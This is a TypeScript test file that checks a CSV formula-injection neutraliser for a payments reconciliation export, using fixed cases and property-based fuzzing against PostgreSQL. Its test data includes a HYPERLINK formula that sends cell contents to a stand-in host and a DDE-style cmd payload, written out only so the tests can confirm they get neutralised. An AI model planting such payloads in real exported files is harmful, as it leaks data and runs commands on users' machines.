import fc from 'fast-check';
import type { Pool } from 'pg';
import { createPgPool } from '../client/sql';
import { neutraliseFormulas, neutraliseFormulaText } from './formula-neutraliser';

/**
 * The neutraliser as the recon COPY runs it, in PostgreSQL, against a model written here from the
 * rule itself (Unicode properties and NFKC, not the neutraliser's own character lists).
 */
const IGNORED = /[\p{Cc}\p{Cf}\p{White_Space}\p{Default_Ignorable_Code_Point}"]/u;
const isTrigger = (c: string) => c === '\t' || c === '\r' || ['=', '+', '-', '@', '|'].includes(c.normalize('NFKC'));
const PLAIN_NUMBER = /^[-+]?[0-9]+(\.[0-9]+)?$/;
const CELL_SEPARATORS = [';', '\n', '\r'];

/** The cell starts of `value` (its start, and after each `;`, CR or LF) where a formula begins. */
function formulaStarts(value: string): number[] {
  const chars = [...value];
  const starts: number[] = [];
  chars.forEach((_, i) => {
    if (i > 0 && !CELL_SEPARATORS.includes(chars[i - 1])) return;
    let j = i;
    while (j < chars.length && IGNORED.test(chars[j]) && !isTrigger(chars[j])) j++;
    if (j < chars.length && isTrigger(chars[j])) starts.push(i);
  });
  return starts;
}

/** What the file must hold: a quote at every cell start that begins a formula; a plain number as it is. */
function expected(value: string): string {
  if (PLAIN_NUMBER.test(value)) return value;
  const starts = new Set(formulaStarts(value));
  return [...value].map((c, i) => (starts.has(i) ? `'${c}` : c)).join('');
}

describe('the recon CSV formula neutraliser (real PostgreSQL)', () => {
  let pool: Pool;

  beforeAll(() => {
    pool = createPgPool(process.env.DATABASE_URL as string, 1);
  });
  afterAll(() => pool.end());

  async function neutralised(values: string[]): Promise<string[]> {
    const { rows } = await pool.query<{ n: string }>(
      `SELECT ${neutraliseFormulas('t.v')} AS n FROM unnest($1::text[]) WITH ORDINALITY AS t(v, i) ORDER BY t.i`,
      [values],
    );
    return rows.map((r) => r.n);
  }

  it.each([
    // What a white-box test got through with
    ['＝1+1', "'＝1+1"],
    ['\u200b=1+1', "'\u200b=1+1"],
    [' =1+1', "' =1+1"],
    ['x;=1+1', "x;'=1+1"],
    ['|', "'|"],
    ["|cmd '/C calc'!A0", "'|cmd '/C calc'!A0"],
    // OWASP's triggers, their fullwidth forms, after invisible characters, after a ; or a line break
    ['=HYPERLINK("https://evil.example/?d="&A1,"Refund")', '\'=HYPERLINK("https://evil.example/?d="&A1,"Refund")'],
    ['+SUM(A1:A9)', "'+SUM(A1:A9)"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcalc', "'\tcalc"],
    ['\r=1', "'\r'=1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    ['\ufeff\u200d\u00a0=1', "'\ufeff\u200d\u00a0=1"],
    ['\u3000@A1', "'\u3000@A1"],
    ['"=1+1"', '\'"=1+1"'],
    ['Toko;\u2060 @A1', "Toko;'\u2060 @A1"],
    ['a;;=1;+2', "a;;'=1;'+2"],
    ['Toko\n=1+1', "Toko\n'=1+1"],
    ['INV;-5', "INV;'-5"],
    ['=1;=2', "'=1;'=2"],
    // Left as they are: plain numbers, ids, text that only holds a trigger further in
    ['INV-2026-0001', 'INV-2026-0001'],
    ['-5', '-5'],
    ['+62812', '+62812'],
    ['1.25', '1.25'],
    ['A=1+1', 'A=1+1'],
    ["'quoted", "'quoted"],
    ['a;b', 'a;b'],
    ['a,=1', 'a,=1'],
    ['Toko Budi', 'Toko Budi'],
    ['', ''],
  ])('%j -> %j', async (value, want) => {
    expect(await neutralised([value])).toEqual([want]);
    expect(expected(value)).toBe(want);
    // The gateway's own CSV writer applies the same rule.
    expect(neutraliseFormulaText(value)).toBe(want);
  });

  it('keeps NULL (an unpaid pay-in has no rrn)', async () => {
    const { rows } = await pool.query(`SELECT ${neutraliseFormulas('NULL::text')} AS n`);
    expect(rows).toEqual([{ n: null }]);
  });

  // Values built from the pieces that matter: triggers, the characters ignored before them, cell
  // separators, quotes and commas, numbers, and any text.
  const char = (set: (c: string) => boolean) => {
    const all: string[] = [];
    for (let cp = 1; cp <= 0xe0fff; cp++)
      if ((cp < 0xd800 || cp > 0xdfff) && set(String.fromCodePoint(cp))) all.push(String.fromCodePoint(cp));
    return fc.constantFrom(...all);
  };
  const piece = fc.oneof(
    { weight: 3, arbitrary: char(isTrigger) },
    { weight: 3, arbitrary: char((c) => IGNORED.test(c)) },
    { weight: 3, arbitrary: fc.constantFrom(';', '\n', '\r', ',', '"', "'", ' ') },
    { weight: 1, arbitrary: fc.constantFrom('-5', '+62812', '1.25', '0') },
    { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 6 }) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 6 }) },
  );
  const value = fc
    .array(piece, { maxLength: 8 })
    .map((pieces) => pieces.join(''))
    .filter((v) => !v.includes('\u0000') && !/\p{Cs}/u.test(v));

  it('puts a quote at every cell start that begins a formula and changes nothing else (property)', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(value, { minLength: 1, maxLength: 40 }), async (values) => {
        expect(await neutralised(values)).toEqual(values.map(expected));
        expect(values.map(neutraliseFormulaText)).toEqual(values.map(expected));
      }),
      { numRuns: Number(process.env.FUZZ_RUNS ?? 200) },
    );
  });

  it('leaves no cell that begins a formula, whichever separator the spreadsheet uses, and is idempotent (property)', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(value, { minLength: 1, maxLength: 40 }), async (values) => {
        const once = await neutralised(values);
        once.forEach((n, i) => {
          if (!PLAIN_NUMBER.test(values[i]))
            expect({ value: values[i], starts: formulaStarts(n) }).toEqual({ value: values[i], starts: [] });
        });
        expect(await neutralised(once)).toEqual(once);
      }),
      { numRuns: Number(process.env.FUZZ_RUNS ?? 100) },
    );
  });
});
